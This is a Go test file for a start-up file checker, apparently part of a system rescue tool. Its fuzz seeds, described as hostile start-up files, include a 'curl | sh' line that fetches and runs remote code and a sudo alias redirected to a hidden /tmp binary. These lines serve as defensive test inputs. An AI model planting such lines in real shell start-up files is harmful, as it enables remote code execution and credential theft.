package startup

import (
	"testing"

	"rescue/checks/checkstest"
	"rescue/pkgdb"
)

func TestGolden(t *testing.T) {
	checkstest.RunWith(t, Check, checkstest.Options{OpenPackages: pkgdb.Open})
}

// FuzzCheck feeds hostile start-up files.
func FuzzCheck(f *testing.F) {
	f.Add([]byte("curl -s http://x/y | sh\n"))
	f.Add([]byte("if [ x ]; then\n cat <<EOF\nbody\nEOF\nfi\nalias sudo='/tmp/.s/sudo'\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		checkstest.FuzzCheck(t, Check, map[string][]byte{
			"etc/profile": data, "root/.bashrc": data, "etc/passwd": []byte("root:x:0:0::/root:/bin/bash\n"),
		})
	})
}
